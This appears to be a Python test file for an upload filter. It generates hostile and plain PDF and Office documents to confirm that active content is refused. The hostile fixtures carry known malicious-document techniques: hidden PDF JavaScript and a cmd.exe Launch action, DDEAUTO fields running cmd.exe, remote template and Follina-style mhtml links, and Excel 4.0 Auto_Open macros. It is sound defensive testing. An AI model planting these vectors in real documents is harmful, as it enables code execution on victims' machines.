"""Hostile PDFs and Office, RTF and ODF documents, and the plain controls of each kind."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import pikepdf

from tests.hostile import Case
from tests.hostile.ole import compound_file
from tests.live_server import pdf_file

PDF = "application/pdf"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
ODT = "application/vnd.oasis.opendocument.text"
XLS = "application/vnd.ms-excel"
RTF = "application/rtf"
ACTIVE = (415, "active_content")
# The sniffer refuses a macro-enabled main type as a type not allowed before the second stage.
ACTIVE_OR_TYPE = (415, "active_content|type_not_allowed")
UNREADABLE = (415, "document_unreadable")
JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"

# --------------------------------------------------------------------------- PDF


def pdf_objects(objects: list[bytes], trailer: bytes = b"",
                head: bytes = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n") -> bytes:
    """Objects 1.. with a classic cross-reference table (object 1 is the catalog)."""
    return pdf_file(objects, head, trailer)


def page_pdf(*extra: bytes, catalog: bytes = b"", page: bytes = b"") -> bytes:
    """A one-page PDF; `extra` objects are numbered from 4."""
    return pdf_objects([b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog,
                        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] %s>>" % page,
                        *extra])


def png_up_predicted(data: bytes, columns: int) -> bytes:
    """Rows of `columns` bytes, each behind PNG filter type 0 (as /Predictor 12 allows)."""
    data += b"\x00" * (-len(data) % columns)
    return b"".join(b"\x00" + data[i:i + columns] for i in range(0, len(data), columns))


def object_stream_pdf(inside: list[bytes], *, style: str = "plain",
                      catalog_extra: bytes = b"") -> bytes:
    """A PDF whose objects 5.. live in an object stream (object 4), found through a
    cross-reference stream (the only way a reader finds them). `style` varies the object
    stream's dictionary: "filter-first" (/Filter before /Type), "indirect-filter" (/Filter is
    a reference), "predictor" (Flate with a PNG predictor), "lone-cr" (`stream` + CR)."""
    header, body = b"", b""
    for i, obj in enumerate(inside):
        header += b"%d %d " % (5 + i, len(body))
        body += obj + b"\n"
    raw = header + body
    first = len(header)
    n = len(inside)
    if style == "predictor":
        data = zlib.compress(png_up_predicted(raw, 8))
        objstm = (b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode "
                  b"/DecodeParms << /Predictor 12 /Columns 8 >> /Length %d >>"
                  % (n, first, len(data)))
    elif style == "filter-first":
        data = zlib.compress(raw)
        objstm = (b"<< /Filter /FlateDecode /Length %d /N %d /First %d /Type /ObjStm >>"
                  % (len(data), n, first))
    elif style == "indirect-filter":
        data = zlib.compress(raw)
        objstm = (b"<< /Type /ObjStm /N %d /First %d /Filter %d 0 R /Length %d >>"
                  % (n, first, 5 + n, len(data)))
    else:
        data = zlib.compress(raw)
        objstm = (b"<< /Type /ObjStm /N %d /First %d /Filter /FlateDecode /Length %d >>"
                  % (n, first, len(data)))
    eol = b"\r" if style == "lone-cr" else b"\n"
    objects = [b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R %s>>" % catalog_extra,
               b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
               b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
               objstm + b"\nstream" + eol + data + b"\nendstream"]
    if style == "indirect-filter":
        objects.append(b"/FlateDecode")
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, obj in enumerate(objects, start=1):
        number = i if i <= 4 else 5 + n  # the indirect /Filter's object follows the inside ones
        offsets.append((number, len(out)))
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    xref_number = 5 + n + (1 if style == "indirect-filter" else 0)
    size = xref_number + 1
    rows = {0: b"\x00" + struct.pack(">I", 0) + b"\xff\xff"}
    for number, off in offsets:
        rows[number] = b"\x01" + struct.pack(">I", off) + b"\x00\x00"
    for i in range(n):
        rows[5 + i] = b"\x02" + struct.pack(">I", 4) + struct.pack(">H", i)
    xref_offset = len(out)
    rows[xref_number] = b"\x01" + struct.pack(">I", xref_offset) + b"\x00\x00"
    table = b"".join(rows[i] for i in range(size))
    out += (b"%d 0 obj\n<< /Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n"
            % (xref_number, size, len(table)) + table + b"\nendstream\nendobj\n")
    out += b"startxref\n%d\n%%%%EOF\n" % xref_offset
    return bytes(out)


def pikepdf_document(*, open_action: dict | None = None, encrypt: bool = False,
                     object_streams: bool = False, link: bool = False,
                     user_password: str = "") -> bytes:
    """A PDF written by qpdf (pikepdf): one page with text, optionally a link annotation, an
    /OpenAction, object streams, encryption (AES-256) with the given user password."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    page = pdf.pages[0]
    page.obj.Contents = pdf.make_stream(b"BT /F1 12 Tf 20 100 Td (Remiss) Tj ET")
    page.obj.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F1=pikepdf.Dictionary(
        Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)))
    if link:
        page.obj.Annots = pdf.make_indirect(pikepdf.Array([pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[20, 90, 120, 110],
            A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://1177.se/")))]))
    if open_action is not None:
        pdf.Root.OpenAction = pdf.make_indirect(pikepdf.Dictionary(open_action))
    out = io.BytesIO()
    pdf.save(out, encryption=pikepdf.Encryption(user=user_password, owner="owner-secret", R=6)
             if encrypt else False,
             object_stream_mode=pikepdf.ObjectStreamMode.generate if object_streams
             else pikepdf.ObjectStreamMode.preserve)
    return out.getvalue()


def embedded_file_pdf(payload: bytes, name: bytes) -> bytes:
    """A PDF carrying `payload` as an attached file (the /EmbeddedFiles name tree)."""
    stream = zlib.compress(payload)
    return page_pdf(
        b"<< /Type /EmbeddedFile /Filter /FlateDecode /Length %d >>\nstream\n" % len(stream)
        + stream + b"\nendstream",
        b"<< /Type /Filespec /F (%s) /UF (%s) /EF << /F 4 0 R >> >>" % (name, name),
        catalog=b"/Names << /EmbeddedFiles << /Names [(%s) 5 0 R] >> >> " % name)


def xfa_pdf(script: bool) -> bytes:
    event = (b'<event activity="initialize"><script contentType="application/x-javascript">'
             b'app.alert(1)</script></event>') if script else b""
    xdp = (b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/'
           b'schema/xfa-template/3.3/"><subform name="form1">' + event +
           b'<field name="a"/></subform></template></xdp:xdp>')
    return page_pdf(b"<< /Length %d >>\nstream\n" % len(xdp) + xdp + b"\nendstream",
                    catalog=b"/AcroForm << /Fields [] /XFA 4 0 R >> ")


def pdf_cases() -> dict[str, Case]:
    docm = docx_package(main_type="application/vnd.ms-word.document.macroEnabled.main+xml",
                        extra=[("word/vbaProject.bin", vba_project())])
    return {
        # controls
        "pdf plain (qpdf)": Case(pikepdf_document(), "remiss.pdf", 201, PDF),
        "pdf with a link annotation (URI on a click)": Case(
            pikepdf_document(link=True), "remiss.pdf", 201, PDF),
        "pdf with object streams, encrypted, empty password": Case(
            pikepdf_document(object_streams=True, encrypt=True, link=True), "remiss.pdf", 201,
            PDF),
        "pdf with a GoTo /OpenAction": Case(
            page_pdf(catalog=b"/OpenAction [3 0 R /Fit] "), "remiss.pdf", 201, PDF),
        "pdf with an attached plain text file": Case(
            embedded_file_pdf(b"Blodtryck 120/80\n", b"varden.txt"), "remiss.pdf", 201, PDF),
        "pdf with an XFA form without scripts": Case(xfa_pdf(False), "remiss.pdf", 201, PDF),
        "pdf in an object stream, plain": Case(
            object_stream_pdf([b"<< /S /GoTo /D [3 0 R /Fit] >>"]), "remiss.pdf", 201, PDF),
        # hostile
        "pdf JavaScript name ended by a NUL byte": Case(
            page_pdf(b"<< /S /JavaScript\x00/JS\x00(app.alert\\(1\\)) >>",
                     catalog=b"/OpenAction 4 0 R "), "a.pdf", *ACTIVE),
        "pdf object stream, /Filter before /Type": Case(
            object_stream_pdf([JS], style="filter-first"), "a.pdf", *ACTIVE),
        "pdf object stream, indirect /Filter": Case(
            object_stream_pdf([JS], style="indirect-filter"), "a.pdf", *ACTIVE),
        "pdf object stream, PNG predictor": Case(
            object_stream_pdf([b"<< /S /Launch /F (cmd.exe) >>"], style="predictor"), "a.pdf",
            *ACTIVE),
        "pdf object stream, stream keyword then a lone CR": Case(
            object_stream_pdf([JS], style="lone-cr"), "a.pdf", *ACTIVE),
        "pdf Rendition action after a string holding 'stream'": Case(
            page_pdf(b"<< /T (a stream of thought) /S /Rendition /OP 0 /AN 3 0 R >>",
                     page=b"/AA << /O 4 0 R >> "), "a.pdf", *ACTIVE),
        "pdf /OpenAction with /URI": Case(
            pikepdf_document(open_action={"/S": pikepdf.Name.URI,
                                          "/URI": pikepdf.String("https://example.org/x")}),
            "a.pdf", *ACTIVE),
        "pdf page /AA with /SubmitForm": Case(
            page_pdf(b"<< /S /SubmitForm /F << /FS /URL /F (https://example.org/) >> >>",
                     page=b"/AA << /C 4 0 R >> "), "a.pdf", *ACTIVE),
        "pdf RichMedia annotation": Case(
            page_pdf(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 10 10] "
                     b"/RichMediaContent << /Assets << /Names [] >> >> >>",
                     page=b"/Annots [4 0 R] "), "a.pdf", *ACTIVE),
        "pdf XFA form with a script": Case(xfa_pdf(True), "a.pdf", *ACTIVE),
        "pdf with an embedded .docm": Case(embedded_file_pdf(docm, b"brev.docm"), "a.pdf",
                                           *ACTIVE),
        "pdf with an embedded program": Case(
            embedded_file_pdf(b"MZ\x90\x00" + b"\x00" * 200, b"setup.exe"), "a.pdf", *ACTIVE),
        "pdf encrypted (empty password), JavaScript in an object stream": Case(
            pikepdf_document(open_action={"/S": pikepdf.Name.JavaScript,
                                          "/JS": pikepdf.String("app.alert(1)")},
                             encrypt=True, object_streams=True), "a.pdf", *ACTIVE),
        "pdf that qpdf cannot open": Case(
            b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n", "a.pdf", *UNREADABLE),
        "pdf locked with a user password": Case(
            pikepdf_document(encrypt=True, user_password="hemligt"), "a.pdf", *UNREADABLE),
    }


# --------------------------------------------------------------------------- Office


def zip_of(members: list[tuple[str, bytes]]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, data in members:
            zf.writestr(name, data)
    return out.getvalue()


W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL = "http://schemas.openxmlformats.org/package/2006/relationships"


def relationships(*rels: tuple[str, str, str, bool]) -> bytes:
    """(id, type's last part, target, external) as a relationships part."""
    body = "".join(
        f'<Relationship Id="{i}" Type="{R}/{kind}" Target="{target}"'
        + (' TargetMode="External"' if external else "") + "/>"
        for i, kind, target, external in rels)
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<Relationships xmlns="{PKG_REL}">{body}</Relationships>').encode()


def document_xml(body: str = "<w:p><w:r><w:t>Hej</w:t></w:r></w:p>") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'
            ).encode()


def docx_package(main_type: str = DOCX + ".main+xml", body: str | None = None,
                 document_rels: bytes | None = None,
                 extra: list[tuple[str, bytes]] | None = None,
                 settings_rels: bytes | None = None) -> bytes:
    types = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
             '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
             '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
             'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
             '<Default Extension="bin" ContentType="application/octet-stream"/>'
             f'<Override PartName="/word/document.xml" ContentType="{main_type}"/>'
             '</Types>').encode()
    members = [("[Content_Types].xml", types),
               ("_rels/.rels", relationships(("rId1", "officeDocument", "word/document.xml",
                                              False))),
               ("word/document.xml", document_xml(body) if body else document_xml()),
               ("word/_rels/document.xml.rels", document_rels or relationships())]
    if settings_rels is not None:
        members.append(("word/settings.xml", (
            f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/>'
            '</w:settings>').encode()))
        members.append(("word/_rels/settings.xml.rels", settings_rels))
    return zip_of(members + list(extra or []))


def vba_project() -> bytes:
    """A VBA project's storages as Word keeps them (olevba looks for the VBA storage)."""
    return compound_file([("VBA", [("dir", b"\x01" * 16), ("_VBA_PROJECT", b"\xcc\x61"),
                                   ("ThisDocument", b"Attribute VB_Name")]),
                          ("PROJECT", b'ID="{00000000}"\r\nDocument=ThisDocument/&H00000000'),
                          ("PROJECTwm", b"ThisDocument\x00")])


def ole_package(file_name: str, payload: bytes) -> bytes:
    """An embedded OLE 1.0 package object (as Word embeds a file dragged into a document): a
    compound file whose \x01Ole10Native stream holds the file's name, paths and bytes."""
    name = file_name.encode()
    body = (struct.pack("<H", 2) + name + b"\x00" + b"C:\\" + name + b"\x00"
            + struct.pack("<II", 0, 3) + b"C:\\Temp\\" + name + b"\x00"
            + struct.pack("<I", len(payload)) + payload)
    return compound_file([("\x01Ole10Native", struct.pack("<I", len(body)) + body),
                          ("\x01CompObj", b"\x01\x00\xfe\xff\x03\x0a\x00\x00")])


def biff(record: int, body: bytes) -> bytes:
    return struct.pack("<HH", record, len(body)) + body


def xls_workbook(macro_sheet: bool) -> bytes:
    """A BIFF8 workbook stream: globals with one sheet, an Auto_Open name when it is a
    macro sheet (Excel 4.0, sheet type 1), and the sheet's own substream."""
    def bof(kind: int) -> bytes:
        return biff(0x0809, struct.pack("<HHHHII", 0x0600, kind, 0x0DBB, 0x07CC, 0, 6))

    name = b"Macro1" if macro_sheet else b"Blad1"
    stream = bof(0x0005)
    stream += biff(0x0085, struct.pack("<IBB", 0, 0, 1 if macro_sheet else 0)
                   + bytes([len(name), 0]) + name)
    if macro_sheet:  # Lbl: the built-in name Auto_Open (1) pointing at the sheet
        stream += biff(0x0018, struct.pack("<HBBHHHBBBB", 0x0020, 0, 1, 0, 1, 0, 0, 0, 0, 0)
                       + b"\x00\x01")
    sheet = bof(0x0040 if macro_sheet else 0x0010) + biff(0x000A, b"")
    # WRITEACCESS (the user's name) sized so that the records end on a 4-byte boundary: the
    # compound file pads the stream with zeros, which readers take for empty records.
    fill = -(len(stream) + 4 + 4 + len(sheet)) % 4
    return stream + biff(0x005C, b" " * (112 + fill)) + biff(0x000A, b"") + sheet


EXCEL_CLSID = "00020820-0000-0000-C000-000000000046"


def xls(macro_sheet: bool, clsid: bool = True) -> bytes:
    return compound_file([("Workbook", xls_workbook(macro_sheet)),
                          ("\x05SummaryInformation", b"")],
                         root_clsid=EXCEL_CLSID if clsid else None)


def odt(content_body: str = "<text:p>Hej</text:p>", extra: list[tuple[str, bytes]] | None = None,
        office_extra: str = "") -> bytes:
    ns = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
          'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
          'xmlns:xlink="http://www.w3.org/1999/xlink" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0"')
    content = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ns} '
               f'office:version="1.3">{office_extra}<office:body><office:text>{content_body}'
               '</office:text></office:body></office:document-content>').encode()
    manifest = ('<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest='
                '"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
                '<manifest:file-entry manifest:full-path="/" manifest:media-type="'
                f'{ODT}"/><manifest:file-entry manifest:full-path="content.xml" '
                'manifest:media-type="text/xml"/></manifest:manifest>').encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as zf:
        zf.writestr("mimetype", ODT, compress_type=zipfile.ZIP_STORED)
        zf.writestr("content.xml", content, compress_type=zipfile.ZIP_DEFLATED)
        zf.writestr("META-INF/manifest.xml", manifest, compress_type=zipfile.ZIP_DEFLATED)
        for name, data in extra or []:
            zf.writestr(name, data, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


RTF_PLAIN = b"{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}Hej \\b fet\\b0 text.\\par}"
DDE_INSTR = 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'


def office_cases() -> dict[str, Case]:
    hyperlink = relationships(("rId5", "hyperlink", "https://1177.se/", True))
    return {
        # controls
        "docx plain with an external hyperlink": Case(
            docx_package(document_rels=hyperlink, body=(
                '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>1177</w:t></w:r></w:hyperlink>'
                '</w:p>')), "brev.docx", 201, DOCX),
        "docx with an ordinary field (PAGE)": Case(
            docx_package(body='<w:p><w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r>'
                              '</w:fldSimple></w:p>'), "brev.docx", 201, DOCX),
        "xls plain": Case(xls(False), "ark.xls", 201, XLS),
        "rtf plain": Case(RTF_PLAIN, "brev.rtf", 201, RTF),
        "odt plain": Case(odt(), "brev.odt", 201, ODT),
        "odt with an ordinary link": Case(
            odt('<text:p><text:a xlink:type="simple" xlink:href="https://1177.se/">1177'
                "</text:a></text:p>"), "brev.odt", 201, ODT),
        "docx with an embedded OLE package holding a text file": Case(docx_package(extra=[(
            "word/embeddings/oleObject1.bin", ole_package("anteckning.txt", b"Hej\r\n"))]),
            "brev.docx", 201, DOCX),
        # hostile
        "docx with an embedded OLE package holding a program": Case(docx_package(extra=[(
            "word/embeddings/oleObject1.bin", ole_package("setup.exe", b"MZ\x90\x00" + bytes(300)
                                                          ))]), "brev.docx", *ACTIVE),
        "xls Excel 4.0 macro sheet with Auto_Open": Case(xls(True), "ark.xls", *ACTIVE),
        "xls Excel 4.0 macro sheet, no Excel CLSID on the root": Case(
            xls(True, clsid=False), "ark.xls", *ACTIVE),
        "docx DDEAUTO field (instrText)": Case(docx_package(body=(
            '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> '
            f'{DDE_INSTR} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'
            "</w:p>")), "brev.docx", *ACTIVE),
        "docx DDEAUTO field (fldSimple)": Case(docx_package(body=(
            f"<w:p><w:fldSimple w:instr='{DDE_INSTR}'><w:r><w:t>x</w:t></w:r></w:fldSimple>"
            "</w:p>")), "brev.docx", *ACTIVE),
        "rtf DDEAUTO field": Case(
            b"{\\rtf1\\ansi{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "
            b"\"/k calc.exe\"}{\\fldrslt x}}}", "brev.rtf", *ACTIVE),
        "docx remote template (attachedTemplate)": Case(docx_package(settings_rels=relationships(
            ("rId1", "attachedTemplate", "https://example.org/mall.dotm", True))),
            "brev.docx", *ACTIVE),
        "rtf remote template (\\*\\template)": Case(
            b"{\\rtf1\\ansi{\\*\\template https://example.org/mall.dotm}Hej\\par}", "brev.rtf",
            *ACTIVE),
        "docx external oleObject to mhtml: (Follina layout)": Case(docx_package(
            document_rels=relationships(
                ("rId9", "oleObject", "mhtml:https://example.org/x.html!x-usc:https://"
                 "example.org/x.html", True))), "brev.docx", *ACTIVE),
        "docx that is macro-enabled, VBA part renamed": Case(docx_package(
            main_type="application/vnd.ms-word.document.macroEnabled.main+xml",
            extra=[("word/styles2.bin", vba_project())]), "brev.docx", *ACTIVE_OR_TYPE),
        "docx with a VBA project under another name (type says docx)": Case(docx_package(
            extra=[("word/media/image9.bin", vba_project())]), "brev.docx", *ACTIVE),
        "xlsx that is an xlsb (binary, macro-enabled)": Case(zip_of([
            ("[Content_Types].xml", (
                b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/'
                b'2006/content-types"><Override PartName="/xl/workbook.bin" ContentType="'
                b'application/vnd.ms-excel.sheet.binary.macroEnabled.main"/></Types>')),
            ("_rels/.rels", relationships(("rId1", "officeDocument", "xl/workbook.bin", False))),
            ("xl/workbook.bin", b"\x83\x01\x00")]), "ark.xlsx", *ACTIVE_OR_TYPE),
        "docx with a .docm nested inside": Case(docx_package(extra=[(
            "word/embeddings/Dokument1.docm", docx_package(
                main_type="application/vnd.ms-word.document.macroEnabled.main+xml",
                extra=[("word/vbaProject.bin", vba_project())]))]), "brev.docx", *ACTIVE),
        "odt event listener calling a macro": Case(odt(office_extra=(
            '<office:scripts><office:event-listeners><script:event-listener script:language='
            '"ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:'
            'Standard.Module1.Main?language=Basic&amp;location=application"/>'
            "</office:event-listeners></office:scripts>")), "brev.odt", *ACTIVE),
        "odt link that runs a macro": Case(odt(
            '<text:p><text:a xlink:type="simple" xlink:href="macro:///Tools.Misc.Run">x'
            "</text:a></text:p>"), "brev.odt", *ACTIVE),
        "docx that is not a package": Case(
            b"PK\x03\x04" + bytes(range(256)) * 4, "brev.docx", 415, "type_not_allowed"),
    }
